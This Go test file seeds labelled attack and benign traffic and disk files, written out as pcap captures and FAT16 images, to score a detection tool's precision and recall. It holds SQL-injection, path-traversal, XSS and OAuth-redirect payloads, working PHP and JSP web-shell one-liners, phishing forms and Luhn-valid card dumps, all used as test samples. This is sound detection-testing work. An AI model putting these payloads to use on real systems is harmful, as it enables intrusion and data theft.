package main

import (
	"bytes"
	"cmp"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"
	"github.com/gopacket/gopacket/pcapgo"
)

// seed is what the seeded inputs begin from: another one gives other inputs.
const seed = 9

// seeded is an exchange of HTTP or a file, and whether it is an attack.
type seeded struct {
	bad  bool
	data []byte // request of a client, or a file
	resp []byte
	name string        // address of the server; "" is 192.0.2.10
	from string        // address of the client; "" is one of ten
	port uint16        // of the server; 0 is 80
	gap  time.Duration // to the next; 0 is a minute
}

func pick[T any](r *rand.Rand, list ...T) T { return list[r.IntN(len(list))] }

func digits(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('0' + r.IntN(10))
	}
	return string(b)
}

// card is a number that a network could give, with its check digit (Luhn).
func card(r *rand.Rand) string {
	body := pick(r, "4"+digits(r, 14), "5"+pick(r, "1", "2", "3", "4", "5")+digits(r, 13))
	return body + string(rune('0'+(10-luhn(body+"0"))%10))
}

// luhn is the remainder of Luhn's sum (ISO/IEC 7812-1, annex B): 0 for a number
// whose check digit is right.
func luhn(d string) int {
	sum := 0
	for i := range len(d) {
		n := int(d[len(d)-1-i] - '0')
		if i%2 == 1 {
			if n *= 2; n > 9 {
				n -= 9
			}
		}
		sum += n
	}
	return sum % 10
}

func get(target string, headers ...string) []byte {
	return []byte("GET " + target + " HTTP/1.1\r\nHost: portal.agensi.example\r\nUser-Agent: Mozilla/5.0\r\n" + strings.Join(append(headers, ""), "\r\n") + "\r\n")
}

func post(target, kind, body string) []byte {
	return fmt.Appendf(nil, "POST %s HTTP/1.1\r\nHost: portal.agensi.example\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s", target, kind, len(body), body)
}

func answer(body string) []byte {
	return fmt.Appendf(nil, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
}

const urlencoded = "application/x-www-form-urlencoded"

func upload(name, body string) []byte {
	return post("/muat-naik", "multipart/form-data; boundary=xx", "--xx\r\nContent-Disposition: form-data; name=\"fail\"; filename=\""+name+"\"\r\n\r\n"+body+"\r\n--xx--\r\n")
}

// wireCases are seeded exchanges of a profile: how attacks and ordinary use of
// it look on the wire.
func wireCases(profile string, r *rand.Rand) (bad, good func() seeded) {
	word := func() string {
		return pick(r, "permohonan", "lesen", "cukai", "sekolah", "kesihatan", "tanah", "pasport", "zakat")
	}
	page := answer("<html><title>" + word() + "</title><h1>Selamat datang</h1></html>")
	s := func(data []byte) seeded { return seeded{data: data, resp: page} }
	switch profile {
	case "portal":
		return func() seeded {
				return pick(r,
					func() seeded {
						return s(get("/cari?id=" + digits(r, 3) + pick(r, "%27+union+select+", "'%20UNION%20ALL%20SELECT%20", "+union/**/select+") + digits(r, 2) + ",user--"))
					},
					func() seeded {
						return s(get("/baca?fail=" + strings.Repeat("../", 2+r.IntN(5)) + pick(r, "etc/passwd", "etc/shadow", "home/www/.ssh/id_rsa")))
					},
					func() seeded {
						return s(get("/" + word() + pick(r, "/.git/config", "/.env", "/data.sql", "/index.php.bak")))
					},
					func() seeded {
						return s(upload(word()+pick(r, ".php", ".jsp", ".aspx", ".phtml"), "<% x %>"))
					},
					func() seeded {
						return seeded{data: get("/"), resp: answer("<html><title>" + pick(r, "Hacked by ", "PWNED BY ", "Digodam oleh ") + word() + "</title></html>")}
					},
					func() seeded {
						return seeded{data: get("/" + word()), resp: answer("<html><script src=\"https://" + word() + digits(r, 2) + pick(r, ".example.net", ".badcdn.test") + "/a.js\"></script></html>")}
					})()
			}, func() seeded {
				return pick(r,
					func() seeded { return s(get("/" + word() + "?halaman=" + digits(r, 2) + "&susun=" + word())) },
					func() seeded { return s(get("/cari?q=" + url.QueryEscape("union pekerja select "+word()))) },
					func() seeded {
						return seeded{data: get("/" + word()), resp: answer("<html><script src=\"https://cdn." + word() + ".gov.my/a.js\"></script></html>")}
					},
					func() seeded { return s(upload(word()+pick(r, ".pdf", ".docx", ".jpg"), "isi "+word())) },
					func() seeded {
						return seeded{data: get("/berita/" + digits(r, 4)), resp: answer("<html><title>Berita</title><p>Laman yang dihacked by penjenayah telah dipulihkan</p></html>")}
					})()
			}
	case "payments":
		name := func() string { return pick(r, "card", "cardnumber", "card_number", "pan", "no_kad") }
		return func() seeded {
				return pick(r,
					func() seeded {
						return s(post("/bayar", urlencoded, "nama="+word()+"&"+name()+"="+card(r)+"&jumlah="+digits(r, 3)))
					},
					func() seeded {
						return s(post("/api/bayar", "application/json", `{"`+name()+`": "`+card(r)+`", "exp": "12/29"}`))
					},
					func() seeded { return s(get("/bayar?" + name() + "=" + card(r))) },
					func() seeded {
						return s(post("/bayar", urlencoded, "rujukan="+digits(r, 8)+"&"+pick(r, "cvv", "cvc", "cvv2")+"="+digits(r, 3)))
					})()
			}, func() seeded {
				return pick(r,
					func() seeded {
						return s(post("/bayar", urlencoded, "token=tok_"+digits(r, 16)+"&jumlah="+digits(r, 3)))
					},
					func() seeded { return s(post("/bil", urlencoded, "akaun="+digits(r, 16)+"&"+word()+"=1")) },
					func() seeded { return s(get("/resit?no=" + digits(r, 16))) },
					func() seeded { return s(post("/bayar", urlencoded, name()+"=xxxxxxxxxxxx"+digits(r, 4))) },
					// Sixteen digits in a card's field that no network could give.
					func() seeded { return s(post("/bayar", urlencoded, name()+"=9"+digits(r, 15))) })()
			}
	case "identity":
		jwt := func() string {
			return "eyJhbGciOi" + digits(r, 6) + "." + "eyJzdWIiOi" + digits(r, 8) + "." + digits(r, 20)
		}
		return func() seeded {
				return pick(r,
					func() seeded { return s(get("/masuk", "Authorization: Basic "+digits(r, 12)+"==")) },
					func() seeded {
						return s(get("/profil?" + pick(r, "access_token", "id_token", "token", "jwt") + "=" + jwt()))
					},
					func() seeded {
						return s(post("/masuk", urlencoded, "pengguna="+word()+"&"+pick(r, "password", "passwd", "katalaluan")+"="+word()+digits(r, 3)))
					},
					func() seeded {
						return s(get("/oauth/authorize?client_id=" + word() + "&redirect_uri=https%3A%2F%2F" + word() + ".attacker.test%2Fcb"))
					},
					func() seeded { return s(post("/saml/acs", urlencoded, "SAMLResponse=PHNhbWxw"+digits(r, 30))) },
					func() seeded {
						return s(get("/akaun;" + pick(r, "jsessionid", "phpsessid") + "=" + digits(r, 24)))
					})()
			}, func() seeded {
				return pick(r,
					func() seeded { return s(get("/profil", "Authorization: Bearer "+jwt())) },
					func() seeded {
						return s(get("/oauth/authorize?client_id=" + word() + "&redirect_uri=https%3A%2F%2F" + word() + ".gov.my%2Fcb"))
					},
					func() seeded { return s(post("/lupa", urlencoded, "emel="+word()+"%40contoh.example")) },
					func() seeded { return s(get("/bantuan?topik=password&token=" + digits(r, 6))) },
					func() seeded { return s(get("/" + word() + "?sid=" + digits(r, 4))) })()
			}
	}
	return func() seeded { // feedback
			return pick(r,
				func() seeded {
					return s(post("/maklum-balas", urlencoded, "teks="+url.QueryEscape(word()+pick(r, "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=//x.test>"))))
				},
				func() seeded { return s(upload(word()+pick(r, ".exe", ".js", ".vbs", ".hta", ".lnk", ".ps1"), "MZ")) },
				func() seeded { // what others left is shown with their numbers
					var b strings.Builder
					for range 5 + r.IntN(20) {
						fmt.Fprintf(&b, "<tr><td>%s</td><td>%02d%02d%02d-%s-%s</td></tr>\n", word(), r.IntN(100), 1+r.IntN(12), 1+r.IntN(28), digits(r, 2), digits(r, 4))
					}
					return seeded{data: get("/maklum-balas/senarai?halaman=" + digits(r, 2)), resp: answer("<table>" + b.String() + "</table>")}
				},
				func() seeded {
					return s(post("/maklum-balas", urlencoded, "teks="+url.QueryEscape(strings.Repeat("lihat https://"+word()+".test/"+digits(r, 4)+" ", 5+r.IntN(4)))))
				})()
		}, func() seeded {
			return pick(r,
				func() seeded {
					return s(post("/maklum-balas", urlencoded, "teks="+url.QueryEscape("Laman "+word()+" lambat. Harga < 10 dan > 5.")))
				},
				func() seeded {
					return s(post("/maklum-balas", urlencoded, "teks="+url.QueryEscape("Rujuk https://portal.agensi.example/"+word()+" dan https://www."+word()+".gov.my/")))
				},
				func() seeded { return s(upload(word()+pick(r, ".pdf", ".png", ".txt"), "bukti")) },
				func() seeded { // telephone numbers of offices, reference numbers, and one's own number
					return seeded{data: get("/maklum-balas/" + digits(r, 4)), resp: answer("<p>Rujukan " + digits(r, 6) + "-" + digits(r, 4) + ", " + digits(r, 6) + "-" + digits(r, 4) + "</p><p>No. KP anda 900101-" + digits(r, 2) + "-" + digits(r, 4) + "</p><p>Tel. " + strings.Repeat("03-"+digits(r, 8)+", ", 6) + "</p>")}
				},
				func() seeded {
					return s(post("/maklum-balas", urlencoded, "teks="+url.QueryEscape("Skrip drama untuk "+word())))
				})()
		}
}

// fileCases are seeded files of a profile, as they lie on a disk.
func fileCases(profile string, r *rand.Rand) (bad, good func() seeded) {
	text := func() string { return strings.Repeat("Laporan "+digits(r, 4)+" mengenai projek.\n", 10+r.IntN(40)) }
	plain := func() seeded { return seeded{data: []byte(text())} }
	lines := func(n int, f func() string) []byte {
		var b strings.Builder
		for range n {
			b.WriteString(f() + "\n")
		}
		return []byte(b.String())
	}
	switch profile {
	case "portal":
		return func() seeded {
				return seeded{data: []byte(pick(r,
					"<?php "+pick(r, "eval", "assert", "system", "passthru", "shell_exec")+"("+pick(r, "", "base64_decode(")+"$_"+pick(r, "POST", "GET", "REQUEST", "COOKIE")+"['"+digits(r, 2)+"']);",
					"<%@ page %><% Runtime.getRuntime().exec(request.getParameter(\"c"+digits(r, 1)+"\")); %>",
					"<% eval request(\"x"+digits(r, 2)+"\") %>") + text())}
			}, func() seeded {
				return pick(r, plain, func() seeded {
					return seeded{data: []byte("<?php $q = htmlspecialchars($_GET['q']); echo system_status($q); ?>" + text())}
				})()
			}
	case "payments":
		return func() seeded {
				return seeded{data: lines(12+r.IntN(30), func() string {
					return card(r) + pick(r, "|", ";", ",") + fmt.Sprintf("%02d", 1+r.IntN(12)) + pick(r, "|", "/") + "29|" + digits(r, 3)
				})}
			}, func() seeded {
				return pick(r, plain, func() seeded {
					return seeded{data: lines(30, func() string { return digits(r, 16) + ",2026-" + digits(r, 2) + "," + digits(r, 2) })}
				})()
			}
	case "identity":
		return func() seeded {
				return seeded{data: []byte("<html>" + pick(r, "Log masuk", "MyDigital ID", "Kata laluan") + "<form method=post action=\"http://" + digits(r, 5) + ".test/" + digits(r, 2) + ".php\"><input name=p type=\"password\"></form>" + text())}
			}, func() seeded {
				return pick(r, plain, func() seeded {
					return seeded{data: []byte("<html>Log masuk<form method=post action=\"/masuk\"><input name=p type=\"password\"></form>")}
				})()
			}
	case "sharing":
		return func() seeded {
				return seeded{data: lines(60+r.IntN(60), func() string {
					return fmt.Sprintf("%s,%02d%02d%02d-%s-%s,x", digits(r, 3), r.IntN(100), 1+r.IntN(12), 1+r.IntN(28), digits(r, 2), digits(r, 4))
				})}
			}, func() seeded {
				return pick(r, plain, func() seeded {
					return seeded{data: lines(100, func() string { return "60" + digits(r, 8) + "-" + digits(r, 6) + "," + digits(r, 4) })}
				})()
			}
	}
	return func() seeded { // feedback
			return seeded{data: []byte("<svg xmlns=\"http://www.w3.org/2000/svg\"" + pick(r, "><script>", " onload=\"a()\"><g>") + digits(r, 4) + "</svg>")}
		}, func() seeded {
			return pick(r, plain, func() seeded {
				return seeded{data: []byte("<svg xmlns=\"http://www.w3.org/2000/svg\"><text>onload " + digits(r, 3) + "</text></svg>")}
			})()
		}
}

// mix draws n of each kind in an order by chance.
func mix(r *rand.Rand, n int, bad, good func() seeded) []seeded {
	var list []seeded
	for range n {
		b, g := bad(), good()
		b.bad = true
		list = append(list, b, g)
	}
	r.Shuffle(len(list), func(i, j int) { list[i], list[j] = list[j], list[i] })
	return list
}

// writeCapture writes exchanges as connections of one client port each, from
// 20000 on, of ten clients, a minute apart so that no flood is made.
func writeCapture(t *testing.T, path string, list []seeded) {
	t.Helper()
	writeCaptureAt(t, path, list, 24)
}

// writeCaptureAt is writeCapture on a day of November 2026. An exchange that
// names a server goes there, one without data finds nobody.
func writeCaptureAt(t *testing.T, path string, list []seeded, day int) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	w := pcapgo.NewWriter(f)
	if err := w.WriteFileHeader(65535, layers.LinkTypeEthernet); err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, day, 1, 0, 0, 0, time.UTC)
	for i := range list {
		client, server := []byte{198, 51, 100, byte(1 + i%250)}, []byte{192, 0, 2, 10}
		if a, err := netip.ParseAddr(list[i].name); err == nil {
			server = a.AsSlice()
		}
		if a, err := netip.ParseAddr(list[i].from); err == nil {
			client = a.AsSlice()
		}
		port := layers.TCPPort(cmp.Or(list[i].port, 80))
		seq, ack := uint32(1000), uint32(9000)
		send := func(mine bool, flags string, data []byte) {
			ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: client, DstIP: server}
			tcp := &layers.TCP{SrcPort: layers.TCPPort(20000 + i), DstPort: port, Seq: seq, Ack: ack, Window: 65000}
			eth := &layers.Ethernet{SrcMAC: []byte{2, 0, 0, 0, 0, 1}, DstMAC: []byte{2, 0, 0, 0, 0, 2}, EthernetType: layers.EthernetTypeIPv4}
			if !mine {
				ip.SrcIP, ip.DstIP, tcp.SrcPort, tcp.DstPort, tcp.Seq, tcp.Ack = server, client, port, layers.TCPPort(20000+i), ack, seq
			}
			tcp.SYN, tcp.ACK, tcp.FIN, tcp.PSH = strings.Contains(flags, "S"), strings.Contains(flags, "A"), strings.Contains(flags, "F"), len(data) > 0
			if err := tcp.SetNetworkLayerForChecksum(ip); err != nil {
				t.Fatal(err)
			}
			buf := gopacket.NewSerializeBuffer()
			if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, eth, ip, tcp, gopacket.Payload(data)); err != nil {
				t.Fatal(err)
			}
			if err := w.WritePacket(gopacket.CaptureInfo{Timestamp: at, CaptureLength: len(buf.Bytes()), Length: len(buf.Bytes())}, buf.Bytes()); err != nil {
				t.Fatal(err)
			}
			at = at.Add(10 * time.Millisecond)
			n := uint32(len(data))
			if tcp.SYN || tcp.FIN {
				n++
			}
			if mine {
				seq += n
			} else {
				ack += n
			}
		}
		send(true, "S", nil)
		if list[i].data == nil {
			at = at.Add(cmp.Or(list[i].gap, time.Minute))
			continue
		}
		send(false, "SA", nil)
		send(true, "A", nil)
		for data := list[i].data; len(data) > 0; {
			n := min(len(data), 1400)
			send(true, "A", data[:n])
			data = data[n:]
		}
		for data := list[i].resp; len(data) > 0; {
			n := min(len(data), 1400)
			send(false, "A", data[:n])
			data = data[n:]
		}
		send(true, "FA", nil)
		send(false, "FA", nil)
		send(true, "A", nil)
		at = at.Add(cmp.Or(list[i].gap, time.Minute))
	}
}

// writeFAT writes a FAT16 volume (Microsoft's specification of FAT, sections 3
// to 6) with files F0.TXT, F1.TXT ... in its root.
func writeFAT(t *testing.T, path string, list []seeded) {
	t.Helper()
	const sector, sectors, perCluster, fatSectors, roots = 512, 40000, 4, 40, 512
	img := make([]byte, sector*sectors)
	b := img[:sector]
	copy(b, []byte{0xeb, 0x3c, 0x90})
	copy(b[3:], "SAKSI   ")
	binary.LittleEndian.PutUint16(b[11:], sector)
	b[13] = perCluster
	binary.LittleEndian.PutUint16(b[14:], 1)
	b[16] = 2
	binary.LittleEndian.PutUint16(b[17:], roots)
	binary.LittleEndian.PutUint16(b[19:], sectors)
	b[21] = 0xf8
	binary.LittleEndian.PutUint16(b[22:], fatSectors)
	b[36], b[38] = 0x80, 0x29
	copy(b[43:], "SEEDED     FAT16   ")
	b[510], b[511] = 0x55, 0xaa
	fat := img[sector:]
	binary.LittleEndian.PutUint16(fat, 0xfff8)
	binary.LittleEndian.PutUint16(fat[2:], 0xffff)
	root := (1 + 2*fatSectors) * sector
	data := root + roots*32
	next := 2
	for i := range list {
		e := img[root+32*i:]
		copy(e, fmt.Sprintf("%-8sTXT", fmt.Sprintf("F%d", i)))
		e[11] = 0x20
		binary.LittleEndian.PutUint16(e[24:], 46<<9|11<<5|24)
		binary.LittleEndian.PutUint16(e[26:], uint16(next))
		binary.LittleEndian.PutUint32(e[28:], uint32(len(list[i].data)))
		n := (len(list[i].data) + sector*perCluster - 1) / (sector * perCluster)
		copy(img[data+(next-2)*sector*perCluster:], list[i].data)
		for k := range n {
			v := uint16(next + k + 1)
			if k == n-1 {
				v = 0xffff
			}
			binary.LittleEndian.PutUint16(fat[2*(next+k):], v)
		}
		next += n
	}
	copy(img[sector+fatSectors*sector:], img[sector:sector+fatSectors*sector])
	if err := os.WriteFile(path, img, 0o600); err != nil {
		t.Fatal(err)
	}
}

// saksi runs a command line in this process.
func saksi(t *testing.T, args ...string) (string, exitCode) {
	t.Helper()
	var out, errs bytes.Buffer
	code := run(t.Context(), &app{stdin: strings.NewReader(""), stdout: &out, stderr: &errs}, args)
	if code != exitOK && code != exitIncomplete && code != exitFailOn {
		t.Fatalf("saksi %s: exit code %d: %s", strings.Join(args, " "), code, errs.String())
	}
	return out.String(), code
}

// score is how well a detection did.
type score struct{ truePositive, falsePositive, falseNegative int }

func (s score) precision() float64 {
	return float64(s.truePositive) / max(1, float64(s.truePositive+s.falsePositive))
}

func (s score) recall() float64 {
	return float64(s.truePositive) / max(1, float64(s.truePositive+s.falseNegative))
}

func scored(list []seeded, found map[int]bool) (s score, missed []string) {
	for i := range list {
		switch {
		case list[i].bad && found[i]:
			s.truePositive++
		case list[i].bad:
			s.falseNegative++
			missed = append(missed, fmt.Sprintf("missed %.200q %.80q", list[i].data, list[i].resp))
		case found[i]:
			s.falsePositive++
			missed = append(missed, fmt.Sprintf("wrongly found %.200q %.80q", list[i].data, list[i].resp))
		}
	}
	return s, missed
}

// home gives commands a home of their own, and the worker.
func home(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	t.Setenv("HOME", dir)
	t.Setenv("XDG_DATA_HOME", filepath.Join(dir, "data"))
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(dir, "cache"))
	t.Setenv("SAKSI_WORKER", buildWorker(t))
	return dir
}
